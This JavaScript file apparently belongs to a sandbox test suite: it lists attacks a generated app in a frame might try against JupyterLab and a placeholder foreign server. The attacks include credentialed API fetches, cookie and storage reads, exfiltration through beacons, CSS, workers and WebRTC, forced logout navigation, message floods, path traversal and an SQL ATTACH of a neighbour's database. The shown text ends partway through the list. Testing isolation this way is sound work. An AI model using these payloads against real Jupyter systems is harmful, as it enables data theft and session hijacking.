// What a generated app might try, from within its frame. Every attack is a function that returns what it has got hold of,
// or throws. Whether it got anywhere is judged outside: by what arrives at Jupyter and at the foreign server, and by the
// words below, which say that something of Jupyter could be read.
const jupyter = location.origin + BASE;
const foreign = FOREIGN;
const sleep = ms => new Promise(done => setTimeout(done, ms));
const read = async (url, options) => {
  const answer = await fetch(url, options);
  return `STATUS ${answer.status} ${(await answer.text()).slice(0, 200)}`;
};
const platform = (path, options) => fetch(location.href.replace(/[^/]*$/, '') + '_townie/' + path, options);
const gives = async (path, options) => {
  const answer = await platform(path, options), text = await answer.text();
  return /of-a-neighbour|kind =|SQLite format|import /.test(text) && answer.ok ? 'READ ' + text.slice(0, 200) : `STATUS ${answer.status}`;
};
const query = async text => {
  const answer = await platform('sql', { method: 'POST', body: JSON.stringify({ query: text }) });
  return answer.ok ? 'READ ' + await answer.text() : `STATUS ${answer.status}`;
};
const socket = url => new Promise((done, failed) => {
  const opened = new WebSocket(url.replace(/^http/, 'ws'));
  opened.onopen = () => done('OPENED');
  opened.onerror = () => failed(new Error('refused'));
  setTimeout(() => failed(new Error('nothing')), 1500);
});
const element = (tag, attributes, parent = document.body) => new Promise(done => {
  const made = document.createElement(tag);
  made.onload = () => done('LOADED');
  made.onerror = () => done('failed');
  Object.assign(made, attributes);
  for (const [name, value] of Object.entries(attributes)) if (typeof value === 'string') made.setAttribute(name, value);
  parent.append(made);
  setTimeout(() => done('nothing'), 800);
});
const form = (attributes, fields = {}) => {
  const made = document.createElement('form');
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input');
    input.type = 'hidden'; input.name = name; input.value = value;
    made.append(input);
  }
  document.body.append(made);
  made.submit();
};
const styled = css => { const made = document.createElement('style'); made.textContent = css; document.head.append(made); };
const worker = text => new Promise((done, failed) => {
  const made = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  made.onmessage = ({ data }) => done(String(data));
  made.onerror = () => failed(new Error('failed'));
  setTimeout(() => failed(new Error('nothing')), 1200);
});

const stun = STUN;
const call = async () => {
  const port = typeof STUN_PORT === 'undefined' ? stun : STUN_PORT;
  const made = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  made.createDataChannel('x'); await made.setLocalDescription(await made.createOffer());
  await new Promise(done => setTimeout(done, 800));
};

const ATTACKS = {
  // ------------------------------------------------------------------------------------------- what JupyterLab's page holds
  'document.cookie': () => 'READ ' + document.cookie,
  'localStorage': () => 'KEYS ' + Object.keys(window.localStorage),
  'sessionStorage': () => 'KEYS ' + Object.keys(window.sessionStorage),
  'indexedDB': () => new Promise((done, failed) => {
    const asked = indexedDB.open('JupyterLab Storage');
    asked.onsuccess = () => done('OPENED'); asked.onerror = () => failed(new Error('refused'));
  }),
  'parent DOM': () => 'READ ' + parent.document.body.innerHTML.length,
  'top DOM': () => 'READ ' + top.document.title,
  'parent.eval': () => 'RAN ' + parent.eval('1+1'),
  'top.jupyterapp': () => 'READ ' + typeof top.jupyterapp.commands,
  'parent frames': () => parent.frames[0] === window ? fail() : 'READ ' + parent.frames[0].document.title,
  'opener': () => opener ? 'READ ' + opener.document.title : fail(),
  'BroadcastChannel': () => new Promise((done, failed) => {
    const channel = new BroadcastChannel('@jupyterlab/x');
    channel.onmessage = () => done('HEARD'); setTimeout(() => failed(new Error('silence')), 300);
  }),
  'storage access': async () => { await document.requestStorageAccess(); return 'READ ' + document.cookie; },
  'service worker': async () => { await navigator.serviceWorker.register('sw.js'); return 'REGISTERED'; },
  'shared worker': () => new Promise((done, failed) => {
    const made = new SharedWorker(jupyter + 'lab/extensions/x.js'); made.onerror = () => failed(new Error('failed'));
    setTimeout(() => failed(new Error('nothing')), 500);
  }),
  // ------------------------------------------------------------------------------------------------------ Jupyter's API
  'fetch contents': () => read(jupyter + 'api/contents', { credentials: 'include' }),
  'fetch kernels': () => read(jupyter + 'api/kernels', { credentials: 'include' }),
  'fetch no-cors': () => read(jupyter + 'api/status', { mode: 'no-cors', credentials: 'include' }),
  'fetch files': () => read(jupyter + 'files/secret.txt', { credentials: 'include' }),
  'fetch terminals': () => read(jupyter + 'api/terminals', { method: 'POST', mode: 'no-cors', credentials: 'include' }),
  'fetch with a stolen token': () => read(jupyter + 'api/contents?token=t', {}),
  'POST kernels': () => read(jupyter + 'api/kernels', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }),
  'POST kernels with xsrf': () => read(jupyter + 'api/kernels', {
    method: 'POST', credentials: 'include', body: '{}', headers: { 'X-XSRFToken': 'x' } }),
  'DELETE contents': () => read(jupyter + 'api/contents/secret.txt', { method: 'DELETE', credentials: 'include' }),
  'PUT contents': () => read(jupyter + 'api/contents/x.txt', { method: 'PUT', credentials: 'include', body: '{}' }),
  'townie api': () => read(jupyter + 'townie/api/threads', { credentials: 'include' }),
  'own wrapper': () => read(jupyter + 'townie/view/' + APP, { credentials: 'include' }),
  'shutdown': () => read(jupyter + 'api/shutdown', { method: 'POST', mode: 'no-cors', credentials: 'include' }),
  'XMLHttpRequest': () => new Promise((done, failed) => {
    const asked = new XMLHttpRequest(); asked.open('GET', jupyter + 'api/contents'); asked.withCredentials = true;
    asked.onload = () => done('STATUS ' + asked.status); asked.onerror = () => failed(new Error('refused')); asked.send();
  }),
  'EventSource': () => new Promise((done, failed) => {
    const made = new EventSource(jupyter + 'api/events', { withCredentials: true });
    made.onopen = () => done('OPENED'); made.onerror = () => failed(new Error('refused'));
  }),
  'sendBeacon': () => navigator.sendBeacon(jupyter + 'api/kernels', '{}') && 'sent perhaps',
  'WebSocket kernel': () => socket(jupyter + 'api/kernels/00000000-0000-0000-0000-000000000000/channels'),
  'WebSocket terminal': () => socket(jupyter + 'terminals/websocket/1'),
  'WebSocket events': () => socket(jupyter + 'api/events/subscribe'),
  'WebSocket app channel': () => socket(jupyter + 'townie/api/apps/' + APP + '/channel'),
  'script of the API': () => element('script', { src: jupyter + 'api/contents' }),
  'script of a file': () => element('script', { src: jupyter + 'files/secret.js' }),
  'stylesheet of a file': () => element('link', { rel: 'stylesheet', href: jupyter + 'files/secret.css' }),
  'image of a file': () => element('img', { src: jupyter + 'files/secret.png' }),
  'module of a file': () => import(jupyter + 'files/secret.js').then(() => 'IMPORTED'),
  'object': () => element('object', { data: jupyter + 'lab' }),
  'embed': () => element('embed', { src: jupyter + 'lab' }),
  'frame of the lab': () => element('iframe', { src: jupyter + 'lab' }),
  'frame of the API': () => element('iframe', { src: jupyter + 'api/contents' }),
  'frame of the view': () => element('iframe', { src: jupyter + 'townie/view/' + APP }),
  'srcdoc frame': async () => {
    await element('iframe', { srcdoc: `<script>fetch('${jupyter}api/contents',{credentials:'include'})</scr` + 'ipt>' }); return 'tried';
  },
  'blob frame': () => element('iframe', { src: URL.createObjectURL(new Blob(
    [`<script>fetch('${jupyter}api/contents',{credentials:'include'});document.title=document.cookie</scr` + 'ipt>'], { type: 'text/html' })) }),
  'data frame': () => element('iframe', { src: `data:text/html,<script>fetch('${jupyter}api/contents')</scr` + 'ipt>' }),
  'javascript: frame': () => element('iframe', { src: 'javascript:fetch("' + jupyter + 'api/contents")' }),
  'blob worker': () => worker(`fetch('${jupyter}api/contents',{credentials:'include'}).then(a=>postMessage('STATUS '+a.status),()=>postMessage('refused'))`),
  'worker importScripts': () => worker(`try{importScripts('${jupyter}files/secret.js');postMessage('LOADED')}catch(e){postMessage('refused')}`),
  'worker socket': () => worker(`new WebSocket('${jupyter.replace(/^http/, 'ws')}api/events/subscribe').onopen=()=>postMessage('OPENED')`),
  'base and relative': async () => {
    const base = document.createElement('base'); base.href = jupyter; document.head.prepend(base);
    try { return await element('img', { src: 'api/status' }); } finally { base.remove(); }
  },
  'redirect through the app': () => read(location.href.replace(/[^/]*$/, '') + '_townie/../../../../api/status'),
  'encoded way up': () => read(location.href.replace(/[^/]*$/, '') + '..%2f..%2f..%2f..%2fapi/status'),
  'double slash': () => read(location.origin + '//api/status'),
  'CSS import': async () => { styled(`@import url(${jupyter}files/secret.css); body{background:url(${jupyter}api/status)}`); await sleep(400); return 'tried'; },
  'font': async () => { styled(`@font-face{font-family:x;src:url(${jupyter}api/status)} body{font-family:x}`); await sleep(400); return 'tried'; },
  'video': () => element('video', { src: jupyter + 'api/status' }),
  'track': () => element('audio', { src: jupyter + 'files/secret.mp3' }),
  'manifest': () => element('link', { rel: 'manifest', href: jupyter + 'api/status' }),
  'prefetch Jupyter': () => element('link', { rel: 'prefetch', href: jupyter + 'api/status' }),
  'preload Jupyter': () => element('link', { rel: 'preload', as: 'fetch', href: jupyter + 'api/status' }),
  'modulepreload Jupyter': () => element('link', { rel: 'modulepreload', href: jupyter + 'files/secret.js' }),
  'speculation rules': async () => {
    const made = document.createElement('script'); made.type = 'speculationrules';
    made.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [jupyter + 'lab', foreign + 'speculation'], eagerness: 'immediate' }],
      prerender: [{ source: 'list', urls: [jupyter + 'lab'], eagerness: 'immediate' }] });
    document.head.append(made); await sleep(600); return 'tried';
  },
  'SVG use': async () => {
    const made = document.createElement('div'); made.innerHTML = `<svg><use href="${jupyter}files/secret.svg#a"/><image href="${jupyter}api/status"/></svg>`;
    document.body.append(made); await sleep(300); return 'tried';
  },
  // ---------------------------------------------------------------------------------------------------------- navigation
  'popup': () => { const made = window.open(jupyter + 'lab', '_blank'); return made ? 'OPENED' : 'nothing'; },
  'popup logout': () => { const made = window.open(jupyter + 'logout'); return made ? 'OPENED' : 'nothing'; },
  'form to a popup': async () => { form({ action: jupyter + 'api/kernels', method: 'post', target: '_blank', enctype: 'text/plain' }, { '{"a': '1"}' }); await sleep(300); return 'tried'; },
  'form POST in a frame': async () => {
    const frame = document.createElement('iframe'); frame.name = 'inner'; document.body.append(frame);
    form({ action: jupyter + 'api/kernels', method: 'post', target: 'inner' }); await sleep(300); return 'tried';
  },
  'form to the top': async () => { form({ action: jupyter + 'logout', method: 'get', target: '_top' }); await sleep(300); return 'tried'; },
  'link to the top': async () => {
    const made = document.createElement('a'); made.href = jupyter + 'logout'; made.target = '_top'; document.body.append(made);
    made.click(); await sleep(300); return 'tried';
  },
  'top.location': () => { top.location = jupyter + 'logout'; return 'tried'; },
  'top.location.replace': () => { top.location.replace(foreign + 'top'); return 'tried'; },
  'parent.location': () => { parent.location.href = foreign + 'parent'; return 'tried'; },
  'forged message': async () => {
    for (const data of [{ townie: 1, hello: 'x' }, { townie: 1, app: APP, event: 'refused', message: 'FORGED' }, { townie: 1, app: APP, event: 'document' }]) {
      parent.postMessage(data, '*', [new MessageChannel().port2]); top.postMessage(data, '*', [new MessageChannel().port2]);
    }
    await sleep(200); return 'tried';
  },
  // --------------------------------------------------------------------------------------------------- in other clothes
  'cookieStore': async () => 'READ ' + (await cookieStore.getAll()).map(one => one.name),
  'caches': async () => { await caches.open('x'); return 'OPENED'; },
  'locks of the origin': async () => { const all = await navigator.locks.query(); return all.held.length ? 'READ locks' : 'nothing'; },
  'document.domain': () => { document.domain = location.hostname; return 'READ ' + parent.document.title; },
  'frame of the lab by name': () => { const made = window.open('', 'lab'); return made && made !== window ? 'READ ' + made.document.title : fail(); },
  'data worker': () => new Promise((done, failed) => {
    const made = new Worker(`data:text/javascript,fetch('${jupyter}api/contents',{credentials:'include'}).then(a=>postMessage('STATUS '+a.status),()=>postMessage('refused'));fetch('${foreign}data-worker',{mode:'no-cors'})`);
    made.onmessage = ({ data }) => done(data); made.onerror = () => failed(new Error('failed')); setTimeout(() => failed(new Error('nothing')), 1200);
  }),
  'worker of Jupyter': () => new Promise((done, failed) => {
    const made = new Worker(jupyter + 'files/secret.js'); made.onerror = () => failed(new Error('failed'));
    made.onmessage = () => done('RAN'); setTimeout(() => failed(new Error('nothing')), 500);
  }),
  'worker in a worker': () => worker(`const inner = URL.createObjectURL(new Blob(["fetch('${foreign}inner',{mode:'no-cors'}).then(()=>postMessage('SENT'),()=>postMessage('refused'))"]));
    const made = new Worker(inner); made.onmessage = ({data}) => postMessage(data); made.onerror = () => postMessage('refused');`),
  'worker imports': () => worker(`import('${jupyter}files/secret.js').then(()=>postMessage('IMPORTED'),()=>postMessage('refused'))`),
  'shared worker of a blob': () => new Promise((done, failed) => {
    const made = new SharedWorker(URL.createObjectURL(new Blob([`onconnect=e=>fetch('${jupyter}api/contents',{credentials:'include'}).then(a=>e.ports[0].postMessage('STATUS '+a.status),()=>e.ports[0].postMessage('refused'))`])));
    made.port.onmessage = ({ data }) => done(data); made.onerror = () => failed(new Error('failed')); setTimeout(() => failed(new Error('nothing')), 900);
  }),
  'import map': async () => {
    const made = document.createElement('script'); made.type = 'importmap';
    made.textContent = JSON.stringify({ imports: { stolen: jupyter + 'files/secret.js' } }); document.head.append(made);
    await import('stolen'); return 'IMPORTED';
  },
  'nested srcdoc leaves': async () => {
    await element('iframe', { srcdoc: `<script>location='${foreign}srcdoc'</scr` + 'ipt>' });
    await element('iframe', { srcdoc: `<iframe srcdoc="<script>location='${jupyter}lab'</scr` + `ipt>"></iframe>` }); await sleep(400); return 'tried';
  },
  'nested data leaves': async () => {
    await element('iframe', { src: `data:text/html,<script>location='${foreign}nested-data'</scr` + 'ipt>' });
    await element('iframe', { src: `data:text/html,<iframe src='${jupyter}lab'></iframe><img src='${foreign}nested-img'><script>fetch('${foreign}nested-fetch',{mode:'no-cors'});new WebSocket('${jupyter.replace(/^http/, 'ws')}api/events/subscribe')</scr` + 'ipt>' });
    await sleep(400); return 'tried';
  },
  'nested blob leaves': async () => {
    const page = URL.createObjectURL(new Blob([`<form method=post action='${jupyter}api/kernels'></form><script>document.forms[0].submit();setTimeout(()=>{location='${foreign}nested-blob'},100)</scr` + 'ipt>'], { type: 'text/html' }));
    await element('iframe', { src: page }); await sleep(400); return 'tried';
  },
  'nested goes to the top': async () => {
    await element('iframe', { srcdoc: `<script>try{top.location='${jupyter}logout'}catch{};try{parent.parent.location='${foreign}up'}catch{}</scr` + 'ipt>' }); await sleep(300); return 'tried';
  },
  'unsandboxed frame': async () => {
    const made = document.createElement('iframe'); made.setAttribute('sandbox', 'allow-same-origin allow-scripts allow-top-navigation allow-popups');
    made.srcdoc = `<script>try{top.location='${jupyter}logout'}catch{};window.open('${jupyter}lab');fetch('${jupyter}api/contents',{credentials:'include'})</scr` + 'ipt>';
    document.body.append(made); await sleep(400); return made.contentDocument ? 'READ frame' : 'tried';
  },
  'credentialless frame': () => element('iframe', { src: jupyter + 'lab', credentialless: '' }),
  'fenced frame': () => element('fencedframe', { src: jupyter + 'lab' }),
  'portal': () => element('portal', { src: jupyter + 'lab' }),
  'SVG object': () => element('object', { data: jupyter + 'files/secret.svg', type: 'image/svg+xml' }),
  'more lenient policy': async () => {
    const made = document.createElement('meta'); made.httpEquiv = 'Content-Security-Policy'; made.content = 'default-src *'; document.head.append(made);
    return read(foreign + 'lenient', { mode: 'no-cors' });
  },
  'cookie by meta': async () => {
    const made = document.createElement('meta'); made.httpEquiv = 'Set-Cookie'; made.content = 'planted=1;path=/'; document.head.append(made); return 'tried';
  },
  'planted cookie': () => { Document.prototype.__lookupSetter__('cookie').call(document, 'planted=1;path=/'); return 'tried'; },
  'button elsewhere': async () => {
    const made = document.createElement('form'); made.innerHTML = `<button formaction="${jupyter}api/kernels" formmethod="post" formtarget="_parent" name="a">x</button>`;
    document.body.append(made); made.firstChild.click(); await sleep(300); return 'tried';
  },
  'dialog and GET to the parent': async () => { form({ action: foreign + 'get-parent', method: 'get', target: '_parent' }, { a: 'b' }); await sleep(200); return 'tried'; },
  'area ping': async () => {
    const made = document.createElement('div'); made.innerHTML = `<map name="m"><area href="#x" ping="${foreign}area" shape="default"></map>`;
    document.body.append(made); made.querySelector('area').click(); await sleep(200); return 'tried';
  },
  'attribution': async () => { await element('img', { src: 'data:,', attributionsrc: foreign + 'attribution' }); return 'tried'; },
  'fetchLater': async () => { fetchLater(foreign + 'later', { activateAfter: 0 }); await sleep(300); return 'tried'; },
  'keepalive': () => read(foreign + 'keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  'WebTransport': async () => { const made = new WebTransport(foreign.replace('http:', 'https:')); await made.ready; return 'OPENED'; },
  'EventSource foreign': () => new Promise((done, failed) => {
    const made = new EventSource(foreign + 'events'); made.onopen = () => done('OPENED'); made.onerror = () => failed(new Error('refused'));
  }),
  'WebRTC': async () => { await call(); return 'tried'; },
  'WebRTC of a frame': async () => {
    await element('iframe', { srcdoc: `<script>const foreign = '${foreign}', STUN_PORT = ${stun}; (${call})()</scr` + 'ipt>' });
    await element('iframe', { src: URL.createObjectURL(new Blob([`<script>const foreign = '${foreign}', STUN_PORT = ${stun}; (${call})()</scr` + 'ipt>'], { type: 'text/html' })) });
    await sleep(800); return 'tried';
  },
  'payment': async () => { await new PaymentRequest([{ supportedMethods: foreign + 'pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(); return 'tried'; },
  'federated sign-in': async () => { await navigator.credentials.get({ identity: { providers: [{ configURL: foreign + 'fedcm.json', clientId: 'x' }] } }); return 'tried'; },
  'clipboard': async () => 'READ ' + await navigator.clipboard.readText(),
  'styles of every kind': async () => {
    styled(['cursor:url(F1),auto', 'list-style-image:url(F2)', 'border-image:url(F3) 1', 'mask:url(F4)', 'filter:url(F5#x)', 'content:url(F6)', 'background:image-set("F7" 1x)', 'shape-outside:url(F8)', 'clip-path:url(F9#x)', 'offset-path:url(F10#x)']
      .map((rule, index) => `.k${index},body::before{display:block;${rule.replace(/F(\d+)/, foreign + 'css$1')}}`).join('') + `@namespace url(${foreign}ns); @font-face{font-family:y;src:url(${foreign}font)} p{font-family:y}`);
    for (let index = 0; index < 10; index++) { const made = document.createElement('p'); made.className = 'k' + index; made.textContent = 'x'; document.body.append(made); }
    await sleep(400); return 'tried';
  },
  'pictures of every kind': async () => {
    const made = document.createElement('div');
    made.innerHTML = `<input type="image" src="${foreign}input"><video poster="${foreign}poster"></video><table background="${foreign}table"><tr><td>x</table>
      <svg><filter id="f"><feImage href="${foreign}fe"/></filter><rect filter="url(#f)" width="9" height="9"/><script href="${foreign}svg-script"/></svg>
      <picture><source srcset="${foreign}source 1x"><img></picture><audio src="${foreign}audio"></audio><math><mtext href="${foreign}math">x</mtext></math>`;
    document.body.append(made); document.body.setAttribute('background', foreign + 'body'); await sleep(400); return 'tried';
  },
  'links of every kind': async () => {
    for (const rel of ['icon', 'apple-touch-icon', 'prerender', 'next', 'search', 'compression-dictionary', 'alternate stylesheet', 'import', 'pingback']) {
      const made = document.createElement('link'); made.rel = rel; made.href = foreign + 'link-' + rel.replace(' ', '-'); document.head.append(made);
    }
    const own = document.createElement('link'); own.rel = 'prerender'; own.href = jupyter + 'lab'; document.head.append(own);
    await sleep(400); return 'tried';
  },
  'paint worklet': async () => { await CSS.paintWorklet.addModule(foreign + 'worklet'); return 'RAN'; },
  'audio worklet': async () => { await new AudioContext().audioWorklet.addModule(jupyter + 'files/secret.js'); return 'RAN'; },
  'XSLT': async () => {
    const parse = text => new DOMParser().parseFromString(text, 'text/xml');
    const made = new XSLTProcessor();
    made.importStylesheet(parse(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${foreign}xsl"/><xsl:template match="/"><a><xsl:copy-of select="document('${jupyter}api/status')"/></a></xsl:template></xsl:stylesheet>`));
    const got = made.transformToDocument(parse('<x/>')); return got && got.documentElement.textContent ? 'READ ' + got.documentElement.textContent : 'nothing';
  },
  'odd methods': async () => {
    for (const method of ['HEAD', 'OPTIONS', 'PROPFIND', 'PATCH', 'DELETE']) await read(jupyter + 'api/contents', { method, credentials: 'include' }).catch(() => null);
    return 'tried';
  },
  'another app by an encoded slash': () => read(location.href.replace(/[^/]*$/, '') + '..%2F..%2Fother%2Findex.html'),
  'the API by an encoded slash': () => read(location.href.replace(/[^/]*$/, '') + '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fapi%2fcontents'),
  'back slashes': () => read(location.href.replace(/[^/]*$/, '') + '..\\..\\..\\..\\api\\status'),
  'polluted messages': async () => {
    for (const data of [JSON.parse('{"townie":1,"__proto__":{"hello":"x"},"constructor":{"prototype":{"polluted":1}}}'), { townie: 1, get: 1 }, Object.assign([], { townie: 1 }), new Error('x'), null, 'townie', 1n])
      parent.postMessage(data, '*', [new MessageChannel().port2]);
    const cyclic = { townie: 1 }; cyclic.self = cyclic; parent.postMessage(cyclic, '*');
    let deep = {}; for (let index = 0; index < 5000; index++) deep = { deep }; parent.postMessage({ townie: 1, hello: deep }, '*');
    await sleep(200); return 'tried';
  },
  'flood of messages': async () => {
    const { port2 } = new MessageChannel();
    parent.postMessage({ townie: 1, hello: 'x' }, '*', [port2]);
    for (let index = 0; index < 20000; index++) parent.postMessage({ townie: 1, hello: 'x'.repeat(100) }, '*');
    return 'tried';
  },
  'whole screen': async () => {
    const own = document.createElement('iframe'); document.body.append(own);
    await own.contentWindow?.Element.prototype.requestFullscreen?.call(document.documentElement);
    await document.documentElement.requestFullscreen(); return document.fullscreenElement && innerHeight === screen.height ? 'RAN' : 'nothing';
  },
  'pointer lock': async () => { await document.body.requestPointerLock(); await sleep(200); return document.pointerLockElement ? 'RAN' : 'nothing'; },
  'keyboard lock': async () => { await navigator.keyboard.lock(); return 'RAN'; },
  'wake lock': async () => { await navigator.wakeLock.request('screen'); return 'tried'; },
  'files of the person': async () => { await (window.showOpenFilePicker ?? fail)(); return 'OPENED'; },
  'private files': async () => { await navigator.storage.getDirectory(); return 'OPENED'; },
  'filesystem: frame': () => element('iframe', { src: `filesystem:${location.origin}/temporary/x.html` }),
  'notification': async () => { const got = await Notification.requestPermission(); return got === 'granted' ? 'OPENED' : got; },
  'protocol handler': () => { navigator.registerProtocolHandler('web+townie', jupyter + '?%s'); return 'tried'; },
  'wasm': async () => {
    // One that imports a function and calls it: it can do no more than the page.
    const { instance } = await WebAssembly.instantiate(Uint8Array.from(atob('AGFzbQEAAAABBAFgAAACBwEBYQFiAAADAgEABwUBAWMAAQoGAQQAEAAL'), one => one.charCodeAt(0)),
      { a: { b: () => fetch(foreign + 'wasm', { mode: 'no-cors' }).catch(() => null) } });
    instance.exports.c(); await sleep(200); return 'tried';
  },
  'image-set and imports of constructed sheets': async () => {
    const sheet = new CSSStyleSheet(); sheet.replaceSync(`p { background: -webkit-image-set(url(${foreign}set) 1x) } @import url(${foreign}imported);`);
    document.adoptedStyleSheets = [sheet]; await sleep(200); return 'tried';
  },
  'reports': async () => {
    for (const policy of [`default-src 'self'; report-uri ${foreign}report-uri`, `default-src 'self'; report-to ${foreign}report-to`]) {
      const made = document.createElement('meta'); made.httpEquiv = 'Content-Security-Policy-Report-Only'; made.content = policy; document.head.append(made);
    }
    await element('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }); return 'tried';
  },
  'unload': async () => {
    await element('iframe', { srcdoc: `<script>onpagehide=()=>{navigator.sendBeacon('${foreign}pagehide');fetch('${foreign}pagehide-keepalive',{keepalive:true,mode:'no-cors'})}</scr` + 'ipt>' });
    document.querySelectorAll('iframe[srcdoc*=onpagehide]').forEach(one => one.remove()); await sleep(300); return 'tried';
  },
  // ---------------------------------------------------------------------------------------- what browsers have beside that
  'window.name': () => window.name ? 'READ ' + window.name : fail(),
  'referrer': () => document.referrer && !document.referrer.startsWith(location.href.replace(/[^/]*$/, '')) ? 'READ ' + document.referrer : fail(),
  'names in the timing of pages': () => {
    const foreign = performance.getEntries().filter(({ name }) => /^https?:/.test(name) && !name.startsWith(location.href.replace(/[^/]*$/, '')));
    return foreign.some(({ responseStatus, transferSize }) => responseStatus || transferSize) ? 'READ ' + JSON.stringify(foreign[0]) : 'nothing';
  },
  'timing of the parent': () => 'READ ' + parent.performance.now(),
  'hints of every kind': async () => {
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'preload', 'monetization', 'manifest', 'author', 'expect', 'mask-icon', 'privacy-policy']) {
      for (const href of [foreign + 'hint-' + rel, jupyter + 'api/status?' + rel]) {
        const made = document.createElement('link'); Object.assign(made, { rel, href, as: rel === 'preload' ? 'image' : 'script' }); document.head.append(made);
      }
    }
    await sleep(500); return 'tried';
  },
  'policies by meta': async () => {
    for (const [name, content] of [['accept-ch', 'sec-ch-ua-model'], ['delegate-ch', 'sec-ch-ua-model ' + foreign], ['x-dns-prefetch-control', 'on'], ['origin-trial', 'x'],
      ['referrer', 'unsafe-url'], ['Clear-Site-Data', '"*"'], ['Link', `<${foreign}meta-link>; rel=preload; as=image`], ['default-style', 'x']]) {
      const made = document.createElement('meta'); made.httpEquiv = name; made.name = name; made.content = content; document.head.append(made);
    }
    await read(foreign + 'metas', { mode: 'no-cors', referrerPolicy: 'unsafe-url' }).catch(() => null); await sleep(200); return 'tried';
  },
  'rules of documents': async () => {
    const made = document.createElement('script'); made.type = 'speculationrules';
    made.textContent = JSON.stringify({ prefetch: [{ where: { href_matches: '/*' }, eagerness: 'immediate', requires: ['anonymous-client-ip-when-cross-origin'] }],
      prerender: [{ where: { href_matches: '/*' }, eagerness: 'immediate', target_hint: '_blank' }] });
    const link = document.createElement('a'); link.href = jupyter + 'lab?ruled'; link.textContent = 'x';
    document.body.append(link); document.head.append(made); await sleep(600); link.remove(); return 'tried';
  },
  'shadow of markup': async () => {
    const made = document.createElement('div');
    const html = `<p><template shadowrootmode="open"><img src="${foreign}shadow"><style>@import url(${foreign}shadow-css)</style></template></p><x-late></x-late>`;
    made.setHTMLUnsafe ? made.setHTMLUnsafe(html) : made.innerHTML = html; document.body.append(made);
    customElements.define('x-late', class extends HTMLElement { connectedCallback() { this.innerHTML = `<img src="${foreign}upgraded">`; } });
    await sleep(300); return 'tried';
  },
  'MathML': async () => {
    const made = document.createElement('div');
    made.innerHTML = `<math><mrow href="${foreign}math-row" xlink:href="${foreign}math-x"><mi>x</mi></mrow><maction actiontype="statusline" xlink:href="${foreign}math-action"><mi>y</mi></maction><annotation-xml encoding="text/html"><img src="${foreign}math-img"></annotation-xml></math>`;
    document.body.append(made); await sleep(200); return 'tried';
  },
  'style sheets of other kinds': async () => {
    styled(`@property --p{syntax:'<url>';inherits:false;initial-value:url(${foreign}property)} @counter-style c{system:cyclic;symbols:url(${foreign}counter)} @font-palette-values --a{}
      @import url(${foreign}layered) layer(x) supports(display:grid); @supports (background:url(${foreign}supports)){p{background:url(${foreign}supported)}} p::marker{content:url(${foreign}marker)}
      @view-transition{navigation:auto} @document url(${foreign}){p{}} p{background:src("${foreign}src");-moz-binding:url(${foreign}binding);behavior:url(${foreign}behavior)}`);
    await sleep(300); return 'tried';
  },
  'shared memory': () => { const made = new SharedArrayBuffer(8); return crossOriginIsolated ? 'READ isolated ' + made.byteLength : 'nothing'; },
  'a socket of a neighbour': () => socket(location.href.replace(APP, 'neighbour').replace(/[^/]*$/, '') + 'ws'),
  'events of a neighbour': () => new Promise((done, failed) => {
    const made = new EventSource(location.href.replace(APP, 'neighbour').replace(/[^/]*$/, '') + 'events'); made.onopen = () => done('OPENED'); made.onerror = () => failed(new Error('refused'));
  }),
  'its visitors and publications': () => gives('../../../api/publications'),
  'its own packages': () => platform('../../../../api/apps/' + APP + '/install', { method: 'POST', body: '{"names":["x"]}' }).then(({ status }) => status < 400 ? 'RAN' : 'STATUS ' + status),
  'devices': async () => {
    const asks = { gamepad: () => navigator.getGamepads().filter(one => one), bluetooth: () => navigator.bluetooth.getDevices(), usb: () => navigator.usb.getDevices(), hid: () => navigator.hid.getDevices(),
      serial: () => navigator.serial.getPorts(), midi: () => navigator.requestMIDIAccess(), sensors: () => new Accelerometer().start(), idle: () => new IdleDetector().start(),
      media: () => navigator.mediaDevices.getUserMedia({ audio: true }), screen: () => navigator.mediaDevices.getDisplayMedia(), fonts: () => queryLocalFonts(), screens: () => getScreenDetails(),
      nfc: () => new NDEFReader().scan(), contacts: () => navigator.contacts.select(['name']), place: () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)),
      passkey: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }), speech: () => new Promise((done, failed) => { const made = new webkitSpeechRecognition(); made.onstart = done; made.onerror = failed; made.start(); }) };
    const got = await Promise.all(Object.entries(asks).map(async ([name, ask]) => {
      try { const found = await Promise.race([ask(), sleep(500).then(() => null)]); return found && (found.length === undefined || found.length) ? name : ''; } catch { return ''; }
    }));
    return got.some(Boolean) ? 'OPENED ' + got.filter(Boolean) : 'nothing';
  },
  'a flood of messages': async () => {
    const large = 'x'.repeat(10000);
    for (let index = 0; index < 5000; index++) { parent.postMessage({ townie: 1, app: APP, event: 'document', large }, '*'); top.postMessage({ townie: 1, hello: large }, '*'); }
    await sleep(100); return 'tried';
  },
  'copied by command': async () => { document.execCommand('paste'); document.execCommand('copy'); return document.queryCommandEnabled?.('paste') ? 'READ by paste' : 'nothing'; },
  'asked before leaving': async () => { addEventListener('beforeunload', event => { event.preventDefault(); event.returnValue = 'stay'; }); return 'tried'; },
  'odd answers of a backend': async () => {
    for (const name of ['parts', 'parts-of-a-list', 'parts-of-two', 'attached', 'odd']) {
      await element('img', { src: name }); await element('iframe', { src: name }); await read(name).catch(() => null);
      await element('script', { src: name }); await element('link', { rel: 'stylesheet', href: name }); await element('video', { src: name }); await element('object', { data: name });
    }
    return 'tried';
  },
  'methods of proxies': async () => {
    for (const method of ['TRACE', 'TRACK', 'CONNECT', 'PURGE', 'MKCOL', 'foo']) await read('x', { method }).catch(() => null);
    return 'tried';
  },
  // ------------------------------------------------------------------------------------------ what Townie gives to apps
  'another app by ATTACH': () => query("ATTACH '../../neighbour/data/app.sqlite' AS other"),
